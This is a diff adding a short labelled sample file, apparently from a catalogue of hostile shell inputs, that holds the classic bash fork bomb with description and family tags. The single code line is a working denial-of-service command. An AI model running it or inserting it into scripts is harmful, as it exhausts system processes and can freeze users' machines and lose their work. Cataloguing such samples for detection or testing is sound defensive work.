@@ -1,0 +1,3 @@
+# description: The classic bash fork bomb.
+# family: fork-bomb
+:(){ :|:& };:
